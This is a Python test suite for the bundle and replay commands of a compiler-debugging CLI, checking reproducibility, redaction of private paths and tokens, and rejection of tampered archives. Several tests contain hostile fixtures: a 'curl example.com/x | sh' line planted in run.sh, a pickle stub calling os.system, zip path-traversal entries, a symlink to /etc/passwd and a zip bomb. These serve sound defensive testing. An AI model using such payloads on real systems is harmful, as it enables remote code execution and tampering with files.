# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
"""fxscope-cli bundle and replay: what a bundle holds, that it fails as it says, and that nothing bad comes of a bad one."""
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import unittest
import zipfile

from support import CLI, ENGINE, SAMPLES, CliTest, needs_engine

ATTENTION = SAMPLES / "masked_attention.pt2"
CUSTOM = SAMPLES / "custom_op.pt2"
FILES = ["manifest.json", "README.md", "run.sh", "issue.md", "program.pt2", "program.txt", "raw.mlir", "input.mlir", "failure.mlir", "repro.py",
         "e2e_test.py", "test.mlir", "pipeline.txt", "commands.txt", "engine.txt", "diagnostics.txt", "diagnostics.json", "environment.txt"]


def members(path):
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def repack(path, change):
    """A bundle altered by somebody who knows how: `change` edits files by plain name, all checksums are made right again."""
    old = members(path)
    root = next(iter(old)).split("/")[0]
    files = {name.split("/", 1)[1]: content for name, content in old.items()}
    manifest = json.loads(files.pop("manifest.json"))
    change(manifest, files)
    manifest["members"] = [{"name": n, "bytes": len(c), "sha256": hashlib.sha256(c).hexdigest()} for n, c in files.items()]
    text = json.dumps(manifest).encode()
    root = root[:-12] + hashlib.sha256(text).hexdigest()[:12]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"manifest.json": text, **files}.items():
            archive.writestr(f"{root}/{name}", content)
    altered = path.with_name("altered.zip")
    altered.write_bytes(out.getvalue())
    return altered


PRIVATE = ["file:///home/ada/secret/net.py", "http://gpu7.research.acme.com:8080/run?id=3", "ada@build-01:/srv", "ada.lovelace@acme.com", "10.1.2.3",
           "\\\\\\\\fileserver\\\\research\\\\net.py", "~ada/nets/net.py", "/home/ada/my secret models/net.py", "/home/ada/Geheime Modelle/größe.py",
           "C:\\\\Users\\\\Ada Lovelace\\\\net.py", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345", "Authorization: Bearer abc.def-123_456", "api_key='letmein'"]
TRACES = ["fileserver", "research", "acme", "build-01", "lovelace", "Lovelace", "10.1.2.3", "secret", "Geheime", "~ada", "/home", "Users", "hf_AbC", "abc.def",
          "letmein", "8080", "gpu7"]


def with_metadata(source, path, change):
    """A copy of a program, each node of which went through `change`, which may edit it."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            content = old.read(info)
            if info.filename.endswith("models/model.json"):
                model = json.loads(content)
                for node in model["graph_module"]["graph"]["nodes"]:
                    change(node)
                content = json.dumps(model).encode()
            new.writestr(info, content)
    return path


@needs_engine
class Bundle(CliTest):
    made = {}  # of samples, as many tests start from the same bundle

    def bundle(self, file=ATTENTION, *options, to="tosa", code=0, **kw):
        out, key = self.work / "b.zip", (file, options, to)
        if key in self.made and not kw:
            self.said, data = self.made[key]
            out.write_bytes(data)
            return out
        self.said = self.check("bundle", file, "--to", to, "-o", out, *options, code=code, **kw)
        if file.parent == SAMPLES and code == 0 and not kw:
            self.made[key] = self.said, out.read_bytes()
        return out

    def lowering_engine(self, name="lowering-engine", when="True"):
        """The engine, with a pattern of TOSA for attention; `when` is an expression of Python."""
        engine = self.work / name
        engine.write_text(f"""#!{sys.executable}
import os, pathlib, re, subprocess, sys
if not any("tosa-backend-pipeline" in argument for argument in sys.argv) or not ({when}):
    os.execv({ENGINE!r}, [{ENGINE!r}, *sys.argv[1:]])
text = re.sub(r"torch.aten.scaled_dot_product_attention (%\\w+),[^:]*: (!torch.vtensor<[^>]*>),.*? -> ", r"torch.aten.relu \\1 : \\2 -> ", sys.stdin.read())
sys.exit(subprocess.run([{ENGINE!r}, *sys.argv[1:]], input=text, text=True).returncode)
""")
        engine.chmod(0o755)
        return engine

    def wrapped_engine(self):
        """The engine under another checksum."""
        path = self.work / "other-engine"
        path.write_text(f'#!/bin/sh\nexec {ENGINE} "$@"\n')
        path.chmod(0o755)
        return path

    def test_one_operation_stands_for_the_program(self):
        path = self.bundle(ATTENTION, "--reduce")
        self.assertRegex(self.said, r"bytes, 1 of [0-9]+ operations\n")
        self.assertTrue(self.said.endswith("replayed after unpacking: fails in the same way\n"), self.said)
        content = members(path)
        names = [name.split("/", 1)[1] for name in content]
        self.assertEqual(names, FILES)
        root = next(iter(content)).split("/")[0]
        self.assertEqual({name.split("/")[0] for name in content}, {root})
        self.assertEqual(root[-12:], hashlib.sha256(content[root + "/manifest.json"]).hexdigest()[:12])
        manifest = self.check_json("bundle", content[root + "/manifest.json"].decode())
        self.assertEqual((manifest["target"], manifest["verified"], manifest["call_nodes"]), ("tosa", True, 1))
        self.assertEqual(manifest["signature"]["stage"], "tosa")
        self.assertIn(manifest["signature"]["op"].encode(), content[root + "/raw.mlir"])
        findings = self.check_json("lower", content[root + "/diagnostics.json"].decode())["findings"]
        self.assertIn((manifest["signature"]["op"], manifest["signature"]["kind"]), [(f["op"], f["kind"]) for f in findings])

    def test_replay_says_that_it_fails_in_the_same_way(self):
        path = self.bundle(CUSTOM, "--reduce", to="linalg-on-tensors")
        out = self.check("replay", path)
        self.assertTrue(out.endswith("fails in the same way\n"), out)
        value = self.check_json("replay", self.check("replay", path, "--json"))
        self.assertEqual((value["outcome"], value["same_engine"], value["found"]), ("same-failure", True, value["expected"]))
        value = self.check_json("replay", self.check("replay", path, "--json", "--engine", self.wrapped_engine()))
        self.assertEqual((value["outcome"], value["same_engine"]), ("same-failure", False))

    def test_every_stopped_sample_gives_a_bundle_that_fails_alone(self):
        for sample in sorted(SAMPLES.glob("*.pt2")):
            for to in ("linalg-on-tensors", "tosa", "stablehlo"):
                stages = json.loads(self.run_cli("lower", sample, "--to", to, "--json")[1])["stages"]
                if all(stage["status"] in ("ok", "breach") for stage in stages):
                    continue
                for options in ((), ("--reduce",)):
                    with self.subTest(sample=sample.name, to=to, options=options):
                        path = self.bundle(sample, *options, to=to)
                        self.assertLess(path.stat().st_size, 200_000)
                        self.check("replay", path)
                        room = self.work / "room"
                        shutil.unpack_archive(path, room)
                        folder = next(room.iterdir())
                        done = subprocess.run(["/bin/sh", "./run.sh", ENGINE], cwd=folder, env={}, capture_output=True, text=True, timeout=120)
                        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
                        self.assertTrue(done.stdout.startswith("fails in the same way: "))
                        shutil.rmtree(room)

    def test_the_script_tells_other_failures_and_none_apart(self):
        path = self.bundle(ATTENTION, "--reduce")
        shutil.unpack_archive(path, self.work / "room")
        script = next((self.work / "room").glob("*/run.sh"))
        def run(engine):
            return subprocess.run(["/bin/sh", str(script), str(engine)], env={}, capture_output=True, text=True, cwd=self.work, timeout=60)
        good = self.fake_engine("cat")
        self.assertEqual((run(good).returncode, run(good).stdout.split(":")[0]), (1, "no failure"))
        bad = self.fake_engine("cat > /dev/null; echo 'fx:1:0: error: something else' >&2; exit 1")
        self.assertEqual((run(bad).returncode, run(bad).stdout.split("(")[0]), (1, "fails in another way "))
        self.assertEqual((run("/no/such").returncode, run("/no/such").stdout.split(":")[0]), (4, "no engine"))

    def test_what_a_limit_cut_off_is_not_known(self):
        path = self.bundle(ATTENTION)
        slow = self.work / "slow-engine"
        # With an empty module, which is not the program's, it does well; else it would say nothing about a program.
        slow.write_text(f'#!/bin/sh\nin=$(cat)\ncase "$*$in" in *tosa-backend-pipeline*torch.aten*) exec sleep 60 ;; esac\n'
                        f'printf "%s\\n" "$in" | {ENGINE} "$@"\n')
        slow.chmod(0o755)
        code, out, err = self.run_cli("replay", path, "--json", "--timeout", "1", "--engine", slow)
        value = self.check_json("replay", out)
        self.assertEqual((code, err, value["outcome"], value["found"]), (4, "", "unknown", None))
        self.assertTrue(value["statement"].startswith("cannot be judged here: the engine did not end within 1 s"), value["statement"])

    def test_replay_with_another_engine(self):
        path = self.bundle(ATTENTION, "--reduce")
        good = self.lowering_engine()
        value = self.check_json("replay", self.run_cli("replay", path, "--json", "--engine", good)[1])
        self.assertEqual((value["outcome"], value["found"], value["statement"]), ("fixed", None, "does not fail: it reaches tosa"))
        self.assertEqual(self.run_cli("replay", path, "--engine", good)[0], 1)
        bad = self.fake_engine("cat > /dev/null; echo 'fx:1:0: error: something else' >&2; exit 1")
        value = self.check_json("replay", self.run_cli("replay", path, "--json", "--engine", bad)[1])
        self.assertEqual(value["outcome"], "other-failure")
        self.assertEqual(self.run_cli("replay", path, "--engine", "/no/such")[0], 4)

    def test_a_bundle_opens_like_a_program(self):
        path = self.bundle(ATTENTION, "--reduce")
        value = self.check_json("inspect", self.check("inspect", path, "--json"))
        self.assertTrue(value["format"].startswith("reproducer bundle of fxscope: "), value["format"])
        self.assertEqual(len(value["operators"]), 1)
        self.assertEqual(self.run_cli("lower", path, "--to", "tosa")[0], 1)
        content = members(path)
        root = next(iter(content)).split("/")[0]
        with zipfile.ZipFile(self.work / "bad.zip", "w") as archive:
            for name, bytes_ in content.items():
                archive.writestr(name, bytes_ + b" " if name.endswith("program.pt2") else bytes_)
        self.refuses("inspect", self.work / "bad.zip", code=3,
                     message=f"{self.work}/bad.zip: the bundle was altered: program.pt2 does not match its checksum in the manifest")
        self.assertTrue(root.startswith("fxscope-masked_attention-"))

    def test_the_same_failure_gives_the_same_bundle_under_its_own_name(self):
        places = [self.work / "one", self.work / "two"]
        for place in places:
            place.mkdir()
            self.check("bundle", ATTENTION, "--to", "tosa", "--reduce", "-o", place)
        one, two = (list(place.iterdir()) for place in places)
        self.assertEqual((len(one), [p.name for p in one], one[0].read_bytes()), (1, [p.name for p in two], two[0].read_bytes()))
        self.assertRegex(one[0].name, r"^masked_attention-[0-9a-f]{12}\.fxscope\.zip$")

    def test_nothing_in_it_tells_of_this_machine(self):
        library = self.work / "secret" / "library.mlir"
        library.parent.mkdir()
        library.write_text("func.func private @__torch__.torch.aten.nothing(%x: !torch.vtensor) -> !torch.vtensor\n")
        copy = self.work / "secret" / "net.pt2"
        shutil.copy(ATTENTION, copy)
        for options in ((), ("--extra-library", library)):
            path = self.bundle(copy, "--reduce", *options)
            inner = {}
            for name, content in members(path).items():
                if name.endswith(".pt2"):
                    inner = {f"{name}/{n}": c for n, c in members(io.BytesIO(content)).items()}
                    self.assertFalse([n for n, c in inner.items() if c[:1] == b"\x80"])
            for name, content in {**members(path), **inner}.items():
                for private in (str(self.work), "secret", os.path.dirname(ENGINE), os.environ.get("USER") or "/home/"):
                    self.assertNotIn(private.encode(), content, name)
            self.check("replay", path)

    def test_weights_go_along_when_asked_for(self):
        sizes = {}
        for which in ("none", "used", "all"):
            path = self.bundle(CUSTOM, "--weights", which, to="tosa")
            program = next(c for n, c in members(path).items() if n.endswith("program.pt2"))
            sizes[which] = sum(len(c) for n, c in members(io.BytesIO(program)).items() if "/data/weights/weight_" in n)
        self.assertEqual(sizes["none"], 0)
        self.assertGreater(sizes["used"], 0)
        self.assertEqual(sizes["used"], sizes["all"])
        self.refuses("bundle", CUSTOM, "--to", "tosa", "-o", self.work / "x.zip", "--weights", "some", code=2,
                     message="unknown choice of weights 'some'; expected none, used or all")

    def test_what_cannot_be_bundled(self):
        out = self.work / "x.zip"
        addmm = SAMPLES / "addmm.pt2"
        self.refuses("bundle", addmm, "--to", "tosa", "-o", out, code=2, message=f"{addmm}: reaches tosa: there is no failure to bundle")
        self.refuses("bundle", ATTENTION, "--to", "tosa", code=2, message="'bundle' requires -o OUT: a zip file to write, or a directory")
        status, _, err = self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, "--node", "no_such")
        self.assertEqual((status, err.split(";")[0].strip()), (2, "fxscope-cli: the program has no node 'no_such'"))
        value = json.loads(self.check("normalize", ATTENTION, "--json"))
        lowers = next(n["name"] for n in value["nodes"] if n["name"].startswith("linear"))
        status, _, err = self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, "--node", lowers)
        self.assertEqual(status, 2, err)
        self.assertIn("does not keep the program from tosa, and lowers by itself", err)
        self.assertEqual(self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", out, engine="/no/such")[0], 4)
        self.assertFalse(out.exists())

    def altered(self, path, what, change):
        """A bundle whose checksums are in order, and whose content is not."""
        bad = repack(path, change)
        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: {what}; none of its content can be trusted")

    def test_altered_bundles_are_refused(self):
        path = self.bundle(ATTENTION, "--reduce")
        def claims_another(manifest, files):
            manifest["signature"]["op"] = "torch.aten.cumsum"
        altered = repack(path, claims_another)
        status, out, err = self.run_cli("replay", altered)
        self.assertEqual((status, out), (3, ""))
        self.assertTrue(err.startswith(f"fxscope-cli: {altered}: the bundle was altered: it claims 'illegal-op of torch.aten.cumsum "), err)
        def other_program(manifest, files):
            files["program.pt2"] = b"PK"
        self.assertEqual(self.run_cli("replay", repack(path, other_program))[0], 3)
        self.assertEqual(self.run_cli("replay", repack(path, lambda m, f: None))[0], 0)

    def test_each_file_is_held_to_what_fxscope_writes(self):
        path = self.bundle(ATTENTION, "--reduce")
        for name in FILES[1:]:
            if name == "program.pt2":
                continue
            with self.subTest(name):
                self.altered(path, ("raw.mlir does not match what fxscope writes for its program" if name == "raw.mlir" else
                                    f"{name} does not match what fxscope writes for its manifest and program"),
                             lambda m, f: f.update({name: f[name] + b"\n// more\n"}))
        def runs_anything(manifest, files):
            files["run.sh"] = b"#!/bin/sh\necho fails in the same way\ncurl example.com/x | sh\n"
            files["README.md"] = b"# Reproducer: run ./run.sh\n"
            files["commands.txt"] = b"curl example.com/x | sh\n"
        self.altered(path, "README.md, run.sh, commands.txt do not match what fxscope writes for its manifest and program", runs_anything)
        self.altered(path, "diagnostics.json does not match what fxscope writes for its manifest and program", lambda m, f: f.pop("diagnostics.json"))
        self.altered(path, "manifest.json, README.md, issue.md do not match what fxscope writes for its manifest and program", lambda m, f: m.update(call_nodes=3))

    def test_the_program_is_held_to_what_fxscope_writes(self):
        path = self.bundle(ATTENTION, "--reduce")
        def with_a_pickle(manifest, files):
            out = io.BytesIO()
            with zipfile.ZipFile(io.BytesIO(files["program.pt2"])) as old, zipfile.ZipFile(out, "w") as new:
                for info in old.infolist():
                    new.writestr(info.filename, b"\x80\x02cos\nsystem\n." if info.filename.endswith("sample_inputs/model.pt") else old.read(info))
            files["program.pt2"] = out.getvalue()
        self.altered(path, "program.pt2 does not match what fxscope writes for its manifest and program", with_a_pickle)

    def test_no_other_file_is_in_a_bundle(self):
        path = self.bundle(ATTENTION, "--reduce")
        bad = repack(path, lambda m, f: f.update({"setup.py": b"import os\n"}))
        self.refuses("replay", bad, code=3, message=f"{bad}: the bundle was altered: fxscope writes no 'setup.py'")

    def test_of_another_version_only_the_failure_is_vouched_for(self):
        path = self.bundle(ATTENTION, "--reduce")
        def older(manifest, files):
            manifest["tool"] = "0.0.9"
            files["run.sh"] = b"#!/bin/sh\n"
        status, out, err = self.run_cli("replay", repack(path, older))
        self.assertEqual((status, err), (1, ""), out)
        self.assertIn("not checked, because fxscope 0.0.9 wrote them, this is ", out)
        self.assertTrue(out.endswith("\nfails in the same way; only that was verified: its files, including run.sh, were not checked\n"), out)
        value = self.check_json("replay", self.run_cli("replay", repack(path, older), "--json")[1])
        self.assertEqual((value["outcome"], value["vouched"], value["files"]["checked"]), ("same-failure", False, []))

    def test_blanks_are_no_module(self):
        path = self.bundle(ATTENTION, "--reduce")
        for blank in (b"   \n\n", b"", b"module {\n}\n", b"// func.func @main\n"):
            self.altered(path, "raw.mlir does not match what fxscope writes for its program", lambda m, f: f.update({"raw.mlir": blank}))
            self.altered(path, "raw.mlir has no function 'main'", lambda m, f: (m.update(tool="0.0.9"), f.update({"raw.mlir": blank})))

    def test_a_bundle_may_lower_limits_and_never_raise_them(self):
        path = self.bundle(ATTENTION, "--reduce")
        seen = self.work / "limits"
        engine = self.work / "noting-engine"
        engine.write_text(f'#!/bin/sh\ncase "$*" in *tosa-backend-pipeline*) ulimit -v >> {seen} ;; esac\nexec {ENGINE} "$@"\n')
        engine.chmod(0o755)
        def memory(asked, *options):
            seen.unlink(missing_ok=True)
            bad = repack(path, lambda m, f: m["options"].update(memory_bytes=asked, timeout_ms=3_600_000))
            said = self.run_cli("replay", bad, "--engine", engine, *options)
            return max(int(line) for line in seen.read_text().split()) >> 10, said
        # What is not asked for again in run.sh is another file.
        self.assertEqual(memory(64 << 30)[1][0], 3)
        self.assertEqual(memory(64 << 30)[0], 8192)
        self.assertEqual(memory(64 << 30, "--memory", "2G")[0], 2048)
        self.assertEqual(memory(1 << 30)[0], 1024)
        status, out, _ = self.run_cli("replay", path, "--timeout", "60", "--memory", "4G")
        self.assertEqual(status, 0)
        self.assertIn("\nlimits: 120 s per stage requested, 60 s allowed (--timeout); 8192 MiB requested, 4096 MiB allowed (--memory)\n", out)

    def test_what_only_its_own_engine_can_say_is_named(self):
        path = self.bundle(ATTENTION, "--reduce")
        self.assertIn("\nfiles: 17 of 17 match what fxscope writes for this program and manifest\n", self.check("replay", path))
        out = self.check("replay", path, "--engine", self.wrapped_engine())
        self.assertIn("\nnot checked, because they record the behaviour of the engine of the bundle: input.mlir failure.mlir engine.txt diagnostics.txt "
                      "diagnostics.json\n", out)

    def changed(self, *changes, said, **options):
        """A bundle of a lowering with changes: it names them, repeats them, and is verified. Its files, and the options of its manifest."""
        path = self.bundle(ATTENTION, *changes)
        self.assertTrue(self.said.endswith("replayed after unpacking: fails in the same way\n"), self.said)
        content = {name.split("/", 1)[1]: text.decode(errors="replace") for name, text in members(path).items()}
        self.assertIn(f" It was lowered with changes: {said}.\n", content["README.md"])
        manifest = self.check_json("bundle", content["manifest.json"])
        self.assertLessEqual(options.items(), manifest["options"].items())
        self.assertIn("\nfails in the same way", self.check("replay", path))
        return path, content

    def test_choices_of_nodes_are_repeated(self):
        sdpa, other = "scaled_dot_product_attention", "scaled_dot_product_attention_1"
        arguments = [{"node": "layer_norm", "name": "eps", "value": "0.5"}]
        _, content = self.changed("--set-arg", "layer_norm.eps=0.5", "--decompose-node", sdpa, "--keep-node", other, arguments=arguments,
                                  decompose_nodes=[sdpa], keep_nodes=[other],
                                  said=f"`layer_norm.eps = 0.5`, `{sdpa}` is decomposed, `{other}` is not decomposed")
        self.assertEqual(content["raw.mlir"].count('"torch.aten.scaled_dot_product_attention"('), 1)
        self.assertIn("0x3FE0000000000000 : f64", content["raw.mlir"])  # 0.5

    def test_an_edited_text_is_repeated(self):
        stages = self.work / "stages"
        self.check("lower", ATTENTION, "--to", "tosa", "-o", stages, code=1)
        file = self.work / "mine.mlir"
        file.write_text((stages / "01-torch.mlir").read_text().replace("torch.constant.float 1.000000e-05", "torch.constant.float 2.500000e-01"))
        for position, stage, said in (("torch", "torch", ""), ("7", "raw", ", stage torch leaves out passes")):
            _, content = self.changed("--from", f"{position}={file}", edited=stage, said=f"the text of stage {stage} is edited.mlir" + said)
            self.assertNotIn("2.500000e-01", content["raw.mlir"])
            for name in ("edited.mlir", "input.mlir"):
                self.assertIn("2.500000e-01", content[name])
            self.assertIn("< edited.mlir > ", content["commands.txt"].splitlines()[0])

    def test_passes_are_left_out_and_none_is_added(self):
        path, content = self.changed("--skip-pass", "2", said="stage torch leaves out passes")
        self.assertNotIn("inline", content["pipeline.txt"])
        for pipeline in ("builtin.module(snapshot-op-locations)", "builtin.module(canonicalize", "builtin.module(inline,torch-reduce-op-variants{extra-library=},inline)"):
            bad = repack(path, lambda m, f: m["options"]["passes"][0].update(pipeline=pipeline))
            self.refuses("replay", bad, code=3, message=f"{bad}: manifest.json: stage torch runs passes that the output type does not have: "
                                                        "a bundle runs those of an output type only")

    def test_changes_belong_to_the_program_as_it_is(self):
        changed = "a bundle of a program that is lowered with changes (edited text, passes left out, choices of nodes) "
        bundle = ("bundle", ATTENTION, "--to", "tosa", "-o", self.work / "b.zip")
        self.refuses(*bundle, "--skip-pass", "2", "--reduce", code=2, message=changed + "is not reduced: leave out --reduce")
        self.refuses(*bundle, "--keep-node", "linear", "--wrong", code=2, message=changed + "is one of a failure, not of a wrong result")
        self.refuses(*bundle, "--skip-pass", "2", "--wrong", code=2, message="options '--from' and '--skip-pass' cannot be used with --wrong")

    def private_program(self):
        """A program whose metadata, names and text tell of people and machines."""
        def change(node):
            node["metadata"]["stack_trace"] = "\n".join(f'File "/home/ada/secret/net.py", line 3, in forward\n    load({p})' for p in PRIVATE)
            node["metadata"]["custom"] = json.dumps({"token": PRIVATE[10], "by": "ada", "note": "secret"})
            node["metadata"]["acme_owner"] = "gpu7"
        return with_metadata(ATTENTION, self.work / "net.pt2", change)

    def test_nothing_private_is_handed_on_and_what_was_taken_out_is_said(self):
        for options in ((), ("--reduce",)):
            path = self.bundle(self.private_program(), *options)
            if not options:  # what is reduced has no metadata to lose
                self.assertRegex(self.said, r"\nremoved as private or unneeded [^\n]*\n  [0-9]+ paths under a home folder \(now net.py\)\n")
                self.assertRegex(self.said, r"\n  [0-9]+ keys or passwords \(now redacted_token_1\)\n")
                self.assertRegex(self.said, r"\n  metadata 'acme_owner' of [0-9]+ operations?\n  metadata 'custom' of [0-9]+ operations?\n$")
            everything = dict(members(path))
            for name, content in list(everything.items()):
                if name.endswith(".pt2"):
                    everything.update({f"{name}/{n}": c for n, c in members(io.BytesIO(content)).items()})
            for name, content in everything.items():
                self.assertEqual([trace for trace in TRACES if trace.encode() in content], [], name)
            self.assertEqual(b"redacted_token_1" in b"".join(everything.values()), not options)
            self.check("replay", path)

    def test_reports_name_files_by_what_tells_nothing_of_the_machine(self):
        program = self.private_program()
        for form in ("json", "sarif", "html", "markdown", "text"):
            asked = ("diagnose", program, "--to", "tosa", "--no-experiments", "--format", form)
            out = self.run_cli(*asked)[1]
            for private in (str(self.work), os.path.dirname(ENGINE), "/home/ada"):
                # The next command has the path as it was given.
                told = [line for line in out.splitlines() if private in line and "load(" not in line and not line.startswith("  fxscope-cli ")]
                self.assertEqual(told, [], form)
        out = self.run_cli("diagnose", program, "--to", "tosa", "--no-experiments", "--json", "--full-paths")[1]
        self.assertEqual((json.loads(out)["engine"]["path"], json.loads(out)["input"]), (ENGINE, str(program)))

    def test_names_of_this_machine_go_too(self):
        import pwd
        import socket
        user, host = pwd.getpwuid(os.getuid()).pw_name, socket.gethostname()
        def change(node):
            node["metadata"]["stack_trace"] = f'File "{self.work}x/net.py", line 3, in forward\n    cache = "{self.work}/nets/a b/net.py" {user}! {host}!'
        path = self.bundle(with_metadata(ATTENTION, self.work / "net.pt2", change))
        text = next(c for n, c in members(io.BytesIO(next(c for n, c in members(path).items() if n.endswith(".pt2")))).items() if n.endswith("model.json")).decode()
        self.assertTrue('cache = \\"net.py\\"' in text)
        self.assertFalse(str(self.work) in text)
        if user not in ("root", "user", "test", "runner"):
            self.assertFalse(user + "!" in text)

    def test_a_key_in_a_name_becomes_the_same_word_everywhere(self):
        key = "hf_AbCdEfGhIjKlMnOpQrSt0123"
        text = lambda content: content.replace(b".attention", b"." + key.encode()).replace(b"_attention_", b"_" + key.encode() + b"_")
        source = self.work / "net.pt2"
        with zipfile.ZipFile(ATTENTION) as old, zipfile.ZipFile(source, "w") as new:
            for info in old.infolist():
                content = old.read(info)
                new.writestr(info, text(content) if info.filename.endswith(".json") else content)
        path = self.bundle(source)
        for name, content in members(path).items():
            self.assertFalse(key.encode() in content, name)
        self.check("replay", path)

    def test_hostile_archives_are_refused_and_leave_nothing(self):
        path = self.bundle(ATTENTION, "--reduce")
        content = members(path)
        root = next(iter(content)).split("/")[0]
        def hostile(extra):
            out = self.work / "hostile.zip"
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
                for name, bytes_ in content.items():
                    archive.writestr(name, bytes_)
                extra(archive)
            status, said, err = self.run_cli("replay", out)
            self.assertEqual((status, said, err.count("\n")), (3, "", 1), err)
            return err
        self.assertIn("'../evil' is not in its manifest", hostile(lambda a: a.writestr("../evil", "x")))
        self.assertIn("'/tmp/evil' is not in its manifest", hostile(lambda a: a.writestr("/tmp/evil", "x")))
        link = zipfile.ZipInfo(f"{root}/link")
        link.external_attr = 0o120777 << 16
        self.assertIn("/link' is not in its manifest", hostile(lambda a: a.writestr(link, "/etc/passwd")))
        self.assertIn("is not in its manifest", hostile(lambda a: a.writestr(f"{root}/bomb", b"\0" * (64 << 20))))
        self.assertIn("files", hostile(lambda a: [a.writestr(f"{root}/{i}", "") for i in range(200)]))
        (self.work / "text.zip").write_text("hello")
        self.assertEqual(self.run_cli("replay", self.work / "text.zip")[0], 3)
        self.assertEqual(self.run_cli("replay", self.work / "no_such.zip")[0], 3)
        self.assertFalse((self.work.parent / "evil").exists())

    def left(self, place):
        return sorted(p.name for p in place.iterdir())

    def test_a_place_that_cannot_be_written_is_named(self):
        status, _, err = self.run_cli("bundle", ATTENTION, "--to", "tosa", "--reduce", "-o", self.work / "no" / "b.zip")
        self.assertEqual((status, err), (2, f"fxscope-cli: {self.work}/no/b.zip: cannot be written: No such file or directory\n"))

    def test_an_engine_that_is_killed_says_nothing(self):
        place = self.work / "place"
        place.mkdir()
        dies = self.fake_engine("cat > /dev/null; kill -9 $$")
        killed = "the engine was killed (signal 9), also when it was run again, as the system does when memory runs out; run it again\n"
        self.assertEqual(self.run_cli("bundle", ATTENTION, "--to", "tosa", "-o", place / "b.zip", engine=dies), (4, "", "fxscope-cli: " + killed))
        self.assertEqual(self.left(place), [])
        good = self.bundle(ATTENTION, "--reduce")
        self.assertEqual(self.run_cli("replay", good, "--json", "--engine", dies), (4, "", "fxscope-cli: " + killed))

    def test_where_one_operation_is_not_enough_as_few_as_fail_stand_for_the_program(self):
        # An engine that does not take relu where a convolution is in the same module.
        engine = self.work / "engine-of-two"
        engine.write_text(f"""#!{sys.executable}
import os, re, subprocess, sys
if not any("tosa-backend-pipeline" in argument for argument in sys.argv):
    os.execv({ENGINE!r}, [{ENGINE!r}, *sys.argv[1:]])
parts = sys.stdin.read().split("// -----\\n")
parts = [part.replace("torch.aten.relu ", "torch.aten.erfinv ") if "torch.aten.conv" in part else part for part in parts]
sys.exit(subprocess.run([{ENGINE!r}, *sys.argv[1:]], input="// -----\\n".join(parts), text=True).returncode)
""")
        engine.chmod(0o755)
        path = self.bundle(SAMPLES / "residual_block.pt2", "--reduce", engine=engine)
        manifest = json.loads(next(iter(members(path).values())))
        self.assertEqual(manifest["signature"]["op"], "torch.aten.erfinv")
        self.assertGreater(manifest["call_nodes"], 1)
        self.assertLess(manifest["call_nodes"], manifest["original_call_nodes"])
        self.check("replay", path, "--engine", engine)

    def test_what_does_not_fail_again_is_not_called_a_reproducer(self):
        # It lowers attention when it is asked once more, with two small programs that show whether it lowers at all, and by run.sh after that.
        runs = self.work / "runs"
        def counting(last):
            return self.lowering_engine(when=f"open({str(runs)!r}, 'a').write('.') and pathlib.Path({str(runs)!r}).stat().st_size >= {last}")
        self.bundle(ATTENTION, engine=counting(1_000))
        last = runs.stat().st_size - 3
        runs.unlink()
        path = self.bundle(ATTENTION, code=1, engine=counting(last))
        self.assertTrue(self.said.endswith("\nis no reproducer: when run again, it does not fail\n"), self.said)
        content = {name.split("/", 1)[1]: text for name, text in members(path).items()}
        self.assertIs(json.loads(content["manifest.json"])["verified"], False)
        self.assertNotIn(b"eproducer: ", content["README.md"].replace(b"is no reproducer: ", b""))
        self.assertIn(b"is no reproducer: when run again, it does not fail", content["README.md"])

    def test_a_stop_leaves_nothing(self):
        place = self.work / "place"
        place.mkdir()
        started = self.work / "started"
        # The stages of the program run; the first run of the bundle's own program does not end.
        slow = self.work / "slow-engine"
        slow.write_text(f'#!/bin/sh\ncase "$*" in *tosa-backend-pipeline*) if [ -e {started}.1 ]; then touch {started}; exec sleep 600; fi; '
                        f'touch {started}.1 ;; esac\nexec {ENGINE} "$@"\n')
        slow.chmod(0o755)
        temporary = self.work / "tmp"
        temporary.mkdir()
        process = subprocess.Popen([CLI, "bundle", ATTENTION, "--to", "tosa", "--reduce", "-o", place / "b.zip"], stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, env={**self.environment(slow), "TMPDIR": str(temporary)})
        end = time.monotonic() + 60
        while not started.exists() and process.poll() is None and time.monotonic() < end:
            time.sleep(0.02)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
        self.assertEqual((process.returncode, out), (130, b""), err)
        self.assertEqual((self.left(place), self.left(temporary)), ([], []))


if __name__ == "__main__":
    unittest.main()
